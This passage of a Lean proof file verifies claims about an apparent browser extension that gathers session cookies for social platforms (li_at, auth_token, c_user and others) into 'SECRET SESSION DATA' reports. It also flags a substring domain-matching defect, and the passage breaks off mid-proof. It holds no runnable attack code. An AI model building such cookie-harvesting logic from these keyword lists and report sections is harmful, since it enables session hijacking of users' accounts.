      jsLength "<pre>" +
        jsLength (String.join ["a              : 1\n", "b              : 2\n"]) ≤ 3500) :=
  ⟨(tableMessages_within_budget "H" "<pre>" ["a              : 1\n", "b              : 2\n"]
      (by decide) (by decide)).1,
    (tableMessages_within_budget "H" "<pre>" ["a              : 1\n", "b              : 2\n"]
      (by decide) (by decide)).2.1 ["a              : 1\n", "b              : 2\n"]
      (by decide)⟩

/-! ## Keyword tests of the two reports -/

theorem includesChars_of_prefix (sub sub2 : List Char) (hp : sub2 <+: sub) :
    ∀ l : List Char, includesChars sub l = true → includesChars sub2 l = true := by
  intro l
  induction l with
  | nil =>
    intro h
    simp only [includesChars, List.isEmpty_iff] at h
    subst h
    have h2 : sub2 = [] := List.prefix_nil.1 hp
    subst h2
    rfl
  | cons c cs ih =>
    intro h
    simp only [includesChars, Bool.or_eq_true] at h ⊢
    rcases h with h | h
    · left
      rw [List.isPrefixOf_iff_prefix] at h ⊢
      exact hp.trans h
    · right
      exact ih h

/-- C13 (as stated, refuted): the two reports use different keyword lists;
`li_at` passes the test of the secrets-only scan and fails the one of the full
sync, and `ds_user_id` passes the test of the full sync and fails the one of
the secrets-only scan. -/
theorem keyword_tests_differ :
    hasSecretKeyword "li_at" = true ∧ hasSessionKeyword "li_at" = false ∧
    hasSecretKeyword "ds_user_id" = false ∧ hasSessionKeyword "ds_user_id" = true := by
  decide

/-- C13 (amended): for every name whose lower-cased form contains none of
`user_id`, `li_at` and `twid`, the keyword test of the secrets-only scan and the
session-keyword test of the full sync give the same answer. -/
theorem keyword_tests_agree (name : String)
    (h1 : includes (toLowerCase name) "user_id" = false)
    (h2 : includes (toLowerCase name) "li_at" = false)
    (h3 : includes (toLowerCase name) "twid" = false) :
    hasSecretKeyword name = hasSessionKeyword name := by
  have hat : includes (toLowerCase name) "auth_token" = true →
      includes (toLowerCase name) "auth" = true := by
    intro h
    exact includesChars_of_prefix "auth_token".data "auth".data
      ⟨"_token".data, by decide⟩ _ h
  simp only [hasSecretKeyword, hasSessionKeyword, secretKeywords, sessionKeywords,
    List.any_cons, List.any_nil, h1, h2, h3, Bool.or_false]
  revert hat
  generalize includes (toLowerCase name) "session" = a
  generalize includes (toLowerCase name) "token" = b
  generalize includes (toLowerCase name) "auth" = c
  generalize includes (toLowerCase name) "auth_token" = d
  generalize includes (toLowerCase name) "login" = e
  generalize includes (toLowerCase name) "sid" = f
  generalize includes (toLowerCase name) "c_user" = g
  generalize includes (toLowerCase name) "xs" = i
  revert a b c d e f g i
  decide

/-- C13 (amended) at the name `SessionID`. -/
theorem keyword_tests_agree_witness :
    hasSecretKeyword "SessionID" = hasSessionKeyword "SessionID" :=
  keyword_tests_agree "SessionID" (by decide) (by decide) (by decide)

/-! ## Cookie matching -/

/-- C16 (code defect): `getRelevantCookies` matches by substring.  For the
target `example.com` it returns the cookie stored under `notexample.com`, and
for the target `www.example.com` the cookie stored under `e.com`; neither
cookie domain equals the target, is a parent domain of it, or is the base
domain or one of its sub-domains. -/
theorem getRelevantCookies_substring_match :
    getRelevantCookies "example.com"
      [("notexample.com", [CookieRecord.mk "sid" "S" "/" false false none "lax" true])] =
      [CookieRecord.mk "sid" "S" "/" false false none "lax" true] ∧
    specDomainMatches "example.com" "notexample.com" = false ∧
    getRelevantCookies "www.example.com"
      [("e.com", [CookieRecord.mk "sid" "S" "/" false false none "lax" true])] =
      [CookieRecord.mk "sid" "S" "/" false false none "lax" true] ∧
    specDomainMatches "www.example.com" "e.com" = false ∧
    specDomainMatches "www.example.com" "example.com" = true ∧
    specDomainMatches "www.example.com" "cdn.example.com" = true := by
  decide

/-! ## Base domain -/

theorem splitChars_ne_nil (sep : Char) (l : List Char) : splitChars sep l ≠ [] := by
  induction l with
  | nil => simp [splitChars]
  | cons c cs ih =>
    by_cases h : c = sep
    · simp [splitChars, h]
    · cases hs : splitChars sep cs with
      | nil => exact absurd hs ih
      | cons p ps => simp [splitChars, h, hs]

theorem splitChars_append_sep (sep : Char) (a b : List Char) :
    splitChars sep (a ++ sep :: b) = splitChars sep a ++ splitChars sep b := by
  induction a with
  | nil => simp [splitChars]
  | cons c cs ih =>
    by_cases h : c = sep
    · simp [splitChars, h, ih]
    · cases hs : splitChars sep cs with
      | nil => exact absurd hs (splitChars_ne_nil sep cs)
      | cons p ps =>
        rw [hs] at ih
        simp [splitChars, h, ih, hs]

theorem splitChars_no_sep (sep : Char) (l : List Char) (h : sep ∉ l) :
    splitChars sep l = [l] := by
  induction l with
  | nil => simp [splitChars]
  | cons c cs ih =>
    have hc : c ≠ sep := fun e => h (e ▸ List.mem_cons_self _ _)
    have hcs : sep ∉ cs := fun e => h (List.mem_cons_of_mem _ e)
    simp [splitChars, hc, ih hcs]

theorem mem_splitChars_no_sep (sep : Char) (l : List Char) :
    ∀ p ∈ splitChars sep l, sep ∉ p := by
  induction l with
  | nil => simp [splitChars]
  | cons c cs ih =>
    by_cases h : c = sep
    · intro p hp
      simp only [splitChars, h, if_true, List.mem_cons] at hp
      rcases hp with hp | hp
      · subst hp; simp
      · exact ih p hp
    · cases hs : splitChars sep cs with
      | nil => exact absurd hs (splitChars_ne_nil sep cs)
      | cons q qs =>
        rw [hs] at ih
        intro p hp
        simp only [splitChars, h, if_false, hs, List.mem_cons] at hp
        rcases hp with hp | hp
        · subst hp
          intro hmem
          rcases List.mem_cons.1 hmem with hm | hm
          · exact h hm.symm
          · exact ih q (List.mem_cons_self _ _) hm
        · exact ih p (List.mem_cons_of_mem _ hp)

theorem exists_last_sep (sep : Char) (l : List Char) (h : sep ∈ l) :
    ∃ a b, l = a ++ sep :: b ∧ sep ∉ b := by
  induction l with
  | nil => simp at h
  | cons c cs ih =>
    by_cases hcs : sep ∈ cs
    · obtain ⟨a, b, hab, hb⟩ := ih hcs
      exact ⟨c :: a, b, by simp [hab], hb⟩
    · rcases List.mem_cons.1 h with hc | hc
      · exact ⟨[], cs, by simp [hc], hcs⟩
      · exact absurd hc hcs

theorem getBaseDomain_two_labels (l1 l2 : List Char) (h1 : '.' ∉ l1) (h2 : '.' ∉ l2) :
    getBaseDomain (some (String.mk (l1 ++ '.' :: l2))) = some (String.mk (l1 ++ '.' :: l2)) := by
  have hne : String.mk (l1 ++ '.' :: l2) ≠ "" := by
    intro h
    have hd := congrArg String.data h
    simp at hd
  have hsplit : splitChars '.' (l1 ++ '.' :: l2) = [l1, l2] := by
    rw [splitChars_append_sep, splitChars_no_sep _ _ h1, splitChars_no_sep _ _ h2]
    rfl
  simp [getBaseDomain, hne, hsplit, joinChars]

theorem getBaseDomain_more_labels (pre l1 l2 : List Char) (h1 : '.' ∉ l1) (h2 : '.' ∉ l2) :
    getBaseDomain (some (String.mk (pre ++ '.' :: (l1 ++ '.' :: l2)))) =
      some (String.mk (l1 ++ '.' :: l2)) := by
  have hne : String.mk (pre ++ '.' :: (l1 ++ '.' :: l2)) ≠ "" := by
    intro h
    have hd := congrArg String.data h
    simp at hd
  have hsplit : splitChars '.' (pre ++ '.' :: (l1 ++ '.' :: l2)) =
      splitChars '.' pre ++ [l1, l2] := by
    rw [splitChars_append_sep, splitChars_append_sep, splitChars_no_sep _ _ h1,
      splitChars_no_sep _ _ h2]
    rfl
  have hdrop : (splitChars '.' pre ++ [l1, l2]).drop
      ((splitChars '.' pre ++ [l1, l2]).length - 2) = [l1, l2] := by
    have hlen : (splitChars '.' pre ++ [l1, l2]).length - 2 = (splitChars '.' pre).length := by
      simp
    rw [hlen, List.drop_left]
  have hge : (splitChars '.' pre ++ [l1, l2]).length ≥ 2 := by simp
  simp only [getBaseDomain, hne, if_false, hsplit, hge, if_true, hdrop, joinChars]

theorem getBaseDomain_idem_some (d : String) :
    getBaseDomain (getBaseDomain (some d)) = getBaseDomain (some d) := by
  by_cases hd : d = ""
  · simp [getBaseDomain, hd]
  · by_cases hdot : '.' ∈ d.data
    · obtain ⟨a, l2, hab, hl2⟩ := exists_last_sep '.' d.data hdot
      have hdmk : d = String.mk (a ++ '.' :: l2) := by
        rw [← hab]
      by_cases hadot : '.' ∈ a
      · obtain ⟨pre, l1, hpl, hl1⟩ := exists_last_sep '.' a hadot
        have hd2 : d = String.mk (pre ++ '.' :: (l1 ++ '.' :: l2)) := by
          rw [hdmk, hpl]
          simp
        rw [hd2, getBaseDomain_more_labels pre l1 l2 hl1 hl2,
          getBaseDomain_two_labels l1 l2 hl1 hl2]
      · rw [hdmk, getBaseDomain_two_labels a l2 hadot hl2,
          getBaseDomain_two_labels a l2 hadot hl2]
    · have hsplit : splitChars '.' d.data = [d.data] := splitChars_no_sep _ _ hdot
      have hres : getBaseDomain (some d) = some d := by
        simp [getBaseDomain, hd, hsplit]
      rw [hres, hres]

/-- C14: for a domain that contains a dot, `getBaseDomain` returns its last two
dot-separated labels joined by a dot (the domain ends with label, dot, label,
the two labels are free of dots, and what precedes them is nothing or ends with
a dot); a non-empty domain without a dot is returned unchanged; `null` and the
empty string give `null`; and applying the function twice gives the same as
applying it once. -/
theorem getBaseDomain_spec :
    (∀ d : String, '.' ∈ d.data →
      ∃ l1 l2 : List Char, '.' ∉ l1 ∧ '.' ∉ l2 ∧
        (d.data = l1 ++ '.' :: l2 ∨ ∃ pre, d.data = pre ++ '.' :: (l1 ++ '.' :: l2)) ∧
        getBaseDomain (some d) = some (String.mk (l1 ++ '.' :: l2))) ∧
    (∀ d : String, d ≠ "" → '.' ∉ d.data → getBaseDomain (some d) = some d) ∧
    getBaseDomain none = none ∧
    getBaseDomain (some "") = none ∧
    (∀ d : Option String, getBaseDomain (getBaseDomain d) = getBaseDomain d) ∧
    getBaseDomain (some "a.b.example.com") = some "example.com" := by
  refine ⟨?_, ?_, rfl, by decide, ?_, by decide⟩
  · intro d hdot
    obtain ⟨a, l2, hab, hl2⟩ := exists_last_sep '.' d.data hdot
    have hdmk : d = String.mk (a ++ '.' :: l2) := by
      rw [← hab]
    by_cases hadot : '.' ∈ a
    · obtain ⟨pre, l1, hpl, hl1⟩ := exists_last_sep '.' a hadot
      have hdata : d.data = pre ++ '.' :: (l1 ++ '.' :: l2) := by
        rw [hab, hpl]
        simp
      refine ⟨l1, l2, hl1, hl2, Or.inr ⟨pre, hdata⟩, ?_⟩
      have hd2 : d = String.mk (pre ++ '.' :: (l1 ++ '.' :: l2)) := by
        rw [← hdata]
      rw [hd2]
      exact getBaseDomain_more_labels pre l1 l2 hl1 hl2
    · refine ⟨a, l2, hadot, hl2, Or.inl hab, ?_⟩
      rw [hdmk]
      exact getBaseDomain_two_labels a l2 hadot hl2
  · intro d hd hdot
    have hsplit : splitChars '.' d.data = [d.data] := splitChars_no_sep _ _ hdot
    simp [getBaseDomain, hd, hsplit]
  · intro d
    cases d with
    | none => rfl
    | some d => exact getBaseDomain_idem_some d

/-! ## Monotonicity of the stats object -/

theorem statsLe_refl (a : JsObject Int) : statsLe a a :=
  fun _ v h => ⟨v, h, le_refl v⟩

theorem statsLe_trans {a b c : JsObject Int} (hab : statsLe a b) (hbc : statsLe b c) :
    statsLe a c := by
  intro d v h
  obtain ⟨w, hw, hvw⟩ := hab d v h
  obtain ⟨x, hx, hwx⟩ := hbc d w hw
  exact ⟨x, hx, le_trans hvw hwx⟩

theorem updateTime_globals (now : Int) (t : Tracker) :
    (updateTime now t).currentDomain = t.currentDomain ∧
      (updateTime now t).startTime = t.startTime := by
  unfold updateTime
  split
  · split
    · split
      · exact ⟨rfl, rfl⟩
      · split
        · exact ⟨rfl, rfl⟩
        · exact ⟨rfl, rfl⟩
        · split <;> exact ⟨rfl, rfl⟩
    · exact ⟨rfl, rfl⟩
  · exact ⟨rfl, rfl⟩

theorem updateTime_statsLe (now : Int) (t : Tracker)
    (h : ∀ s, t.startTime = some s → s ≤ now) :
    statsLe t.stats (updateTime now t).stats := by
  rcases updateTime_stats_cases now t with hsame | ⟨d, s, _, hs, hset⟩
  · rw [hsame]
    exact statsLe_refl _
  · rw [hset]
    intro k v hk
    have hle : s ≤ now := h s hs
    by_cases hkd : k = d
    · subst hkd
      refine ⟨statOf t.stats k + (now - s), JsObject.get_set_self _ _ _, ?_⟩
      have hv : statOf t.stats k = v := by simp [statOf, hk]
      omega
    · exact ⟨v, by simpa [JsObject.get_set_ne _ _ _ _ hkd] using hk, le_refl v⟩

theorem flushAndRestart_statsLe (now : Int) (c : Bool) (t : Tracker)
    (h : ∀ s, t.startTime = some s → s ≤ now) :
    statsLe t.stats (flushAndRestart now c t).stats := by
  unfold flushAndRestart
  simp only
  split
  · exact updateTime_statsLe now t h
  · split
    · exact updateTime_statsLe now t h
    · exact updateTime_statsLe now t h

theorem flushAndRestart_startTime (now : Int) (c : Bool) (t : Tracker) (s2 : Int)
    (h : (flushAndRestart now c t).startTime = some s2) :
    s2 = now ∨ t.startTime = some s2 := by
  unfold flushAndRestart at h
  simp only at h
  split at h
  · right
    rw [(updateTime_globals now t).2] at h
    exact h
  · split at h
    · left
      simpa using h.symm
    · right
      rw [(updateTime_globals now t).2] at h
      exact h

theorem step_statsLe (t : Tracker) (ev : Int × Event)
    (h : ∀ s, t.startTime = some s → s ≤ ev.1) :
    statsLe t.stats (step t ev).stats := by
  obtain ⟨now, e⟩ := ev
  have hu := updateTime_statsLe now t h
  have hf := fun c => flushAndRestart_statsLe now c t h
  cases e with
  | tabActivated r => cases r <;> exact hu
  | tabUpdated url =>
    cases url with
    | none => exact statsLe_refl _
    | some newDomain =>
      simp only [step]
      split
      · exact hu
      · exact statsLe_refl _
  | windowFocusChanged w =>
    cases w with
    | none_ => exact hu
    | window r => cases r <;> exact statsLe_refl _
  | idleStateChanged st r =>
    cases st with
    | active => cases r <;> exact statsLe_refl _
    | idle => exact hu
    | locked => exact hu
  | tick st c =>
    cases st with
    | active => exact hf c
    | idle => exact statsLe_refl _
    | locked => exact statsLe_refl _
  | syncRequested c => exact hf c
  | lastWindowClosed => exact hu

theorem step_startTime (t : Tracker) (ev : Int × Event) (s2 : Int)
    (h : (step t ev).startTime = some s2) :
    s2 = ev.1 ∨ t.startTime = some s2 := by
  obtain ⟨now, e⟩ := ev
  have hg := (updateTime_globals now t).2
  cases e with
  | tabActivated r =>
    cases r with
    | failed =>
      right
      have h2 : (updateTime now t).startTime = some s2 := h
      rw [hg] at h2
      exact h2
    | tab d =>
      left
      have h2 : some now = some s2 := h
      exact (Option.some.inj h2).symm
  | tabUpdated url =>
    cases url with
    | none => exact Or.inr h
    | some newDomain =>
      simp only [step] at h
      split at h
      · left
        exact (Option.some.inj h).symm
      · exact Or.inr h
  | windowFocusChanged w =>
    cases w with
    | none_ =>
      have h2 : (none : Option Int) = some s2 := h
      cases h2
    | window r =>
      cases r with
      | failed => exact Or.inr h
      | tab d =>
        left
        have h2 : some now = some s2 := h
        exact (Option.some.inj h2).symm
  | idleStateChanged st r =>
    cases st with
    | active =>
      cases r with
      | failed => exact Or.inr h
      | tab d =>
        left
        have h2 : some now = some s2 := h
        exact (Option.some.inj h2).symm
    | idle =>
      have h2 : (none : Option Int) = some s2 := h
      cases h2
    | locked =>
      have h2 : (none : Option Int) = some s2 := h
      cases h2
  | tick st c =>
    cases st with
    | active => exact flushAndRestart_startTime now c t s2 h
    | idle => exact Or.inr h
    | locked => exact Or.inr h
  | syncRequested c => exact flushAndRestart_startTime now c t s2 h
  | lastWindowClosed =>
    right
    have h2 : (updateTime now t).startTime = some s2 := h
    rw [hg] at h2
    exact h2

/-- C15: when no event carries a clock value below the start time in force or
below the clock value of an earlier event, every run of tracker events (tab
activation, URL change, window focus change, idle transition, periodic tick,
sync, last window closed) keeps each entry of `stats` present with a value at
least as large as before; a single event is the run of length one. -/
theorem run_stats_monotone (t : Tracker) (evs : List (Int × Event))
    (hstart : ∀ s, t.startTime = some s → ∀ e ∈ evs, s ≤ e.1)
    (hclock : evs.Pairwise (fun a b => a.1 ≤ b.1)) :
    ∀ d v, t.stats.get d = some v →
      ∃ w, (run t evs).stats.get d = some w ∧ v ≤ w := by
  have key : ∀ (evs : List (Int × Event)) (t : Tracker),
      (∀ s, t.startTime = some s → ∀ e ∈ evs, s ≤ e.1) →
      evs.Pairwise (fun a b => a.1 ≤ b.1) → statsLe t.stats (run t evs).stats := by
    intro evs
    induction evs with
    | nil => intro t _ _; exact statsLe_refl _
    | cons ev rest ih =>
      intro t hs hp
      have hp2 := List.pairwise_cons.1 hp
      have h1 : statsLe t.stats (step t ev).stats :=
        step_statsLe t ev (fun s hst => hs s hst ev (List.mem_cons_self _ _))
      have h2 : statsLe (step t ev).stats (run (step t ev) rest).stats := by
        apply ih (step t ev) _ hp2.2
        intro s2 hs2 e he
        rcases step_startTime t ev s2 hs2 with hcase | hcase
        · rw [hcase]
          exact hp2.1 e he
        · exact hs s2 hcase e (List.mem_cons_of_mem _ he)
      exact statsLe_trans h1 h2
  exact key evs t hstart hclock

/-- C15 at a concrete run: 500 ms already stored for `a.com` and a start time
of 1000; the entry only grows. -/
theorem run_stats_monotone_witness :
    ∃ w, (run (Tracker.mk (some "a.com") (some 1000) [("a.com", 500)] [])
        [ (2000, .tabUpdated (some (some "b.com"))),
          (3000, .idleStateChanged .idle .failed),
          (4000, .syncRequested false) ]).stats.get "a.com" = some w ∧ (500 : Int) ≤ w :=
  run_stats_monotone (Tracker.mk (some "a.com") (some 1000) [("a.com", 500)] [])
    [ (2000, .tabUpdated (some (some "b.com"))),
      (3000, .idleStateChanged .idle .failed),
      (4000, .syncRequested false) ]
    (by
      intro s hs e he
      have hs2 : s = 1000 := by
        have h2 : some (1000 : Int) = some s := hs
        exact (Option.some.inj h2).symm
      subst hs2
      revert e
      decide)
    (by decide) "a.com" 500 (by decide)

/-! ## Sections of the cookie report -/

theorem JsObject.mem_of_get {α : Type} (o : JsObject α) (k : String) (v : α)
    (h : o.get k = some v) : (k, v) ∈ o := by
  induction o with
  | nil => simp [JsObject.get] at h
  | cons kv rest ih =>
    obtain ⟨k2, v2⟩ := kv
    by_cases hk : k2 = k
    · simp only [JsObject.get, hk, if_true, Option.some.injEq] at h
      simp [hk, h]
    · simp only [JsObject.get, hk, if_false] at h
      exact List.mem_cons_of_mem _ (ih h)

theorem JsObject.mem_set {α : Type} (o : JsObject α) (k : String) (v : α) (e : String × α)
    (h : e ∈ o.set k v) : e ∈ o ∨ e = (k, v) := by
  induction o with
  | nil =>
    simp only [JsObject.set, List.mem_singleton] at h
    exact Or.inr h
  | cons kv rest ih =>
    obtain ⟨k2, v2⟩ := kv
    by_cases hk : k2 = k
    · simp only [JsObject.set, hk, if_true, List.mem_cons] at h
      rcases h with h | h
      · exact Or.inr h
      · exact Or.inl (List.mem_cons_of_mem _ h)
    · simp only [JsObject.set, hk, if_false, List.mem_cons] at h
      rcases h with h | h
      · exact Or.inl (h ▸ List.mem_cons_self _ _)
      · rcases ih h with h2 | h2
        · exact Or.inl (List.mem_cons_of_mem _ h2)
        · exact Or.inr h2

theorem targetKeysOf_nodup (domain : String) (tk : List String)
    (htk : targetKeysOf domain = some tk) : tk.Nodup := by
  unfold targetKeysOf JsObject.read at htk
  cases h : SOCIAL_PLATFORMS.get (jsToString (getBaseDomain (some domain))) with
  | none =>
    rw [h] at htk
    by_cases hp : jsToString (getBaseDomain (some domain)) ∈ objectPrototypeKeys
    · simp [hp] at htk
    · simp only [hp, if_false, Option.some.injEq] at htk
      rw [← htk]
      exact List.nodup_nil
  | some keys =>
    rw [h] at htk
    simp only [Option.some.injEq] at htk
    subst htk
    have hmem := JsObject.mem_of_get _ _ _ h
    have hall : ∀ e ∈ SOCIAL_PLATFORMS, e.2.Nodup := by decide
    exact hall _ hmem

theorem foldl_set_name_inv (relevant : List CookieRecord) :
    ∀ m : JsObject CookieRecord, m.keys.Nodup → (∀ e ∈ m, e.2.name = e.1) →
      (relevant.foldl (fun (m : JsObject CookieRecord) c => m.set c.name c) m).keys.Nodup ∧
      ∀ e ∈ relevant.foldl (fun (m : JsObject CookieRecord) c => m.set c.name c) m,
        e.2.name = e.1 := by
  induction relevant with
  | nil => intro m h1 h2; exact ⟨h1, h2⟩
  | cons c cs ih =>
    intro m h1 h2
    rw [List.foldl_cons]
    apply ih
    · exact JsObject.nodup_keys_set _ _ _ h1
    · intro e he
      rcases JsObject.mem_set _ _ _ _ he with h | h
      · exact h2 e h
      · rw [h]

theorem dedupByName_names_nodup (relevant : List CookieRecord) :
    ((dedupByName relevant).map (fun c => c.name)).Nodup := by
  have h := foldl_set_name_inv relevant [] (by simp [JsObject.keys]) (by simp)
  unfold dedupByName
  have hmap : ((relevant.foldl (fun (m : JsObject CookieRecord) c => m.set c.name c) []).map
      Prod.snd).map (fun c => c.name) =
      (relevant.foldl (fun (m : JsObject CookieRecord) c => m.set c.name c) []).keys := by
    rw [List.map_map]
    unfold JsObject.keys
    apply List.map_congr_left
    intro e he
    exact h.2 e he
  rw [hmap]
  exact h.1

theorem getRelevantCookies_names_nodup (targetDomain : String)
    (allCookieData : JsObject (List CookieRecord)) :
    ((getRelevantCookies targetDomain allCookieData).map (fun c => c.name)).Nodup := by
  unfold getRelevantCookies
  exact dedupByName_names_nodup _

theorem foldl_append_acc (l : List String) :
    ∀ acc : String, l.foldl (fun r s => r ++ s) acc = acc ++ l.foldl (fun r s => r ++ s) "" := by
  induction l with
  | nil => intro acc; simp
  | cons a rest ih =>
    intro acc
    rw [List.foldl_cons, List.foldl_cons, ih (acc ++ a), ih ("" ++ a), String.empty_append,
      String.append_assoc]

theorem join_cons (a : String) (l : List String) :
    String.join (a :: l) = a ++ String.join l := by
  unfold String.join
  rw [List.foldl_cons, foldl_append_acc, String.empty_append]

theorem priorityLines_acc (matchingCookies : List CookieRecord) (targetKeys : List String) :
    ∀ block : String,
      targetKeys.foldl (fun block key =>
        match matchingCookies.find? (fun ck => ck.name = key) with
        | some c => block ++ ("<b>🔑 " ++ key ++ "</b>: <code>" ++ c.value ++ "</code>\n")
        | none => block) block =
      block ++ String.join ((priorityCookies targetKeys matchingCookies).map priorityLine) := by
  induction targetKeys with
  | nil => intro block; simp [priorityCookies, join_nil_eq]
  | cons key rest ih =>
    intro block
    rw [List.foldl_cons, ih]
    cases hf : matchingCookies.find? (fun ck => ck.name = key) with
    | none => simp [priorityCookies, hf]
    | some c =>
      have hname : c.name = key := by simpa using List.find?_some hf
      have hih : priorityCookies rest matchingCookies =
          List.filterMap (fun key => matchingCookies.find? (fun ck => ck.name = key)) rest := rfl
      simp only [priorityCookies, List.filterMap_cons, hf, List.map_cons, join_cons,
        priorityLine, hname, String.append_assoc]

theorem secondaryLines_acc (targetKeys : List String) (matchingCookies : List CookieRecord) :
    ∀ block : String,
      secondaryLines targetKeys matchingCookies block =
        block ++
          String.join ((secondaryCookies targetKeys matchingCookies).map secondaryLine) := by
  induction matchingCookies with
  | nil => intro block; simp [secondaryLines, secondaryCookies, join_nil_eq]
  | cons c rest ih =>
    intro block
    have hstep : secondaryLines targetKeys (c :: rest) block =
        secondaryLines targetKeys rest
          (if (!targetKeys.contains c.name && hasSessionKeyword c.name) = true then
            block ++ ("• <i>" ++ c.name ++ "</i>: <code>" ++ c.value ++ "</code>\n")
          else block) := rfl
    rw [hstep, ih]
    by_cases hc : (!targetKeys.contains c.name && hasSessionKeyword c.name) = true
    · simp only [hc, if_true, secondaryCookies, List.filter_cons, List.map_cons, join_cons,
        secondaryLine, String.append_assoc]
    · simp only [hc, if_false, secondaryCookies, List.filter_cons]
      simp

theorem mem_priorityCookies (targetKeys : List String) (matchingCookies : List CookieRecord)
    (hnames : (matchingCookies.map (fun c => c.name)).Nodup) (c : CookieRecord) :
    c ∈ priorityCookies targetKeys matchingCookies ↔
      c ∈ matchingCookies ∧ c.name ∈ targetKeys := by
  unfold priorityCookies
  rw [List.mem_filterMap]
  constructor
  · rintro ⟨key, hkey, hf⟩
    have hname : c.name = key := by simpa using List.find?_some hf
    exact ⟨List.mem_of_find?_eq_some hf, hname ▸ hkey⟩
  · rintro ⟨hc, hk⟩
    refine ⟨c.name, hk, ?_⟩
    cases hf : matchingCookies.find? (fun ck => decide (ck.name = c.name)) with
    | none =>
      have hnone := List.find?_eq_none.1 hf c hc
      simp at hnone
    | some c2 =>
      have hname : c2.name = c.name := by simpa using List.find?_some hf
      have hmem : c2 ∈ matchingCookies := List.mem_of_find?_eq_some hf
      have hinj := List.inj_on_of_nodup_map hnames hmem hc hname
      rw [hinj]

theorem cookie_sections_perm (targetKeys : List String) (matchingCookies : List CookieRecord)
    (hkeys : targetKeys.Nodup)
    (hnames : (matchingCookies.map (fun c => c.name)).Nodup) :
    (priorityCookies targetKeys matchingCookies ++
      (secondaryCookies targetKeys matchingCookies ++
        otherCookies targetKeys matchingCookies)).Perm matchingCookies := by
  have hmc : matchingCookies.Nodup := List.Nodup.of_map _ hnames
  -- the priority cookies are the cookies whose name is a target key
  have hprio : (priorityCookies targetKeys matchingCookies).Perm
      (matchingCookies.filter (fun c => targetKeys.contains c.name)) := by
    apply (List.perm_ext_iff_of_nodup _ (hmc.filter _)).2
    · intro c
      rw [mem_priorityCookies targetKeys matchingCookies hnames, List.mem_filter]
      simp
    · unfold priorityCookies
      apply List.Nodup.filterMap _ hkeys
      intro k1 k2 c h1 h2
      have e1 : c.name = k1 := by simpa using List.find?_some (Option.mem_def.1 h1)
      have e2 : c.name = k2 := by simpa using List.find?_some (Option.mem_def.1 h2)
      rw [← e1, ← e2]
  -- the other two sections split the remaining cookies by the keyword test
  have hsec : secondaryCookies targetKeys matchingCookies =
      (matchingCookies.filter (fun c => !targetKeys.contains c.name)).filter
        (fun c => hasSessionKeyword c.name) := by
    unfold secondaryCookies
    rw [List.filter_filter]
    congr 1
    funext c
    exact Bool.and_comm _ _
  have hoth : otherCookies targetKeys matchingCookies =
      (matchingCookies.filter (fun c => !targetKeys.contains c.name)).filter
        (fun c => !hasSessionKeyword c.name) := by
    unfold otherCookies
    rw [List.filter_filter]
    congr 1
    funext c
    simp [Bool.and_comm]
  have hrest : (secondaryCookies targetKeys matchingCookies ++
      otherCookies targetKeys matchingCookies).Perm
      (matchingCookies.filter (fun c => !targetKeys.contains c.name)) := by
    rw [hsec, hoth]
    exact List.filter_append_perm _ _
  exact (hprio.append hrest).trans (List.filter_append_perm _ _)

theorem append_ne_empty_left (a b : String) (h : a ≠ "") : a ++ b ≠ "" := by
  intro hab
  apply h
  have hd := congrArg String.data hab
  simp only [String.data_append] at hd
  have ha : a.data = [] := (List.append_eq_nil.1 hd).1
  exact String.ext ha

theorem append_ne_empty_right (a b : String) (h : b ≠ "") : a ++ b ≠ "" := by
  intro hab
  apply h
  have hd := congrArg String.data hab
  simp only [String.data_append] at hd
  have hb : b.data = [] := (List.append_eq_nil.1 hd).2
  exact String.ext hb

theorem join_eq_empty_iff (l : List String) (hl : ∀ x ∈ l, x ≠ "") :
    String.join l = "" ↔ l = [] := by
  cases l with
  | nil => simp [join_nil_eq]
  | cons a rest =>
    rw [join_cons]
    constructor
    · intro h
      exact absurd h (append_ne_empty_left _ _ (hl a (List.mem_cons_self _ _)))
    · intro h
      cases h

theorem priorityLine_ne_empty (c : CookieRecord) : priorityLine c ≠ "" :=
  append_ne_empty_right _ _ (by decide)

theorem secondaryLine_ne_empty (c : CookieRecord) : secondaryLine c ≠ "" :=
  append_ne_empty_right _ _ (by decide)

theorem secretBlock_eq (targetKeys : List String) (matchingCookies : List CookieRecord) :
    secondaryLines targetKeys matchingCookies (priorityLines targetKeys matchingCookies) =
      String.join ((priorityCookies targetKeys matchingCookies).map priorityLine) ++
        String.join ((secondaryCookies targetKeys matchingCookies).map secondaryLine) := by
  rw [secondaryLines_acc]
  unfold priorityLines
  rw [priorityLines_acc, String.empty_append]

theorem secretBlock_eq_empty_iff (targetKeys : List String)
    (matchingCookies : List CookieRecord) :
    secondaryLines targetKeys matchingCookies (priorityLines targetKeys matchingCookies) = "" ↔
      priorityCookies targetKeys matchingCookies ++
        secondaryCookies targetKeys matchingCookies = [] := by
  rw [secretBlock_eq]
  have hp : String.join ((priorityCookies targetKeys matchingCookies).map priorityLine) = "" ↔
      priorityCookies targetKeys matchingCookies = [] := by
    rw [join_eq_empty_iff _ (by
      intro x hx
      obtain ⟨c, _, hc⟩ := List.mem_map.1 hx
      rw [← hc]
      exact priorityLine_ne_empty c)]
    exact List.map_eq_nil_iff
  have hs : String.join ((secondaryCookies targetKeys matchingCookies).map secondaryLine) = "" ↔
      secondaryCookies targetKeys matchingCookies = [] := by
    rw [join_eq_empty_iff _ (by
      intro x hx
      obtain ⟨c, _, hc⟩ := List.mem_map.1 hx
      rw [← hc]
      exact secondaryLine_ne_empty c)]
    exact List.map_eq_nil_iff
  constructor
  · intro h
    by_cases h1 : String.join ((priorityCookies targetKeys matchingCookies).map priorityLine) = ""
    · have h2 : String.join
          ((secondaryCookies targetKeys matchingCookies).map secondaryLine) = "" := by
        rw [h1, String.empty_append] at h
        exact h
      rw [hp.1 h1, hs.1 h2]
      rfl
    · exact absurd h (append_ne_empty_left _ _ h1)
  · intro h
    have h12 := List.append_eq_nil.1 h
    rw [hp.2 h12.1, hs.2 h12.2]
    rfl

theorem domainMessages_retained (stats : JsObject Int) (cookies : JsObject (List CookieRecord))
    (webStorage : JsObject StorageSnapshot) (domain : String) (tk : List String)
    (htk : targetKeysOf domain = some tk)
    (hret : isSilenced stats cookies webStorage domain = false) :
    domainMessages stats cookies webStorage domain =
      (if priorityCookies tk (getRelevantCookies domain cookies) ++
          secondaryCookies tk (getRelevantCookies domain cookies) = [] then []
       else [domainHeaderOf stats domain ++ "<b>🔒 SECRET SESSION DATA:</b>\n" ++
          (String.join ((priorityCookies tk (getRelevantCookies domain cookies)).map
              priorityLine) ++
            String.join ((secondaryCookies tk (getRelevantCookies domain cookies)).map
              secondaryLine))]) ++
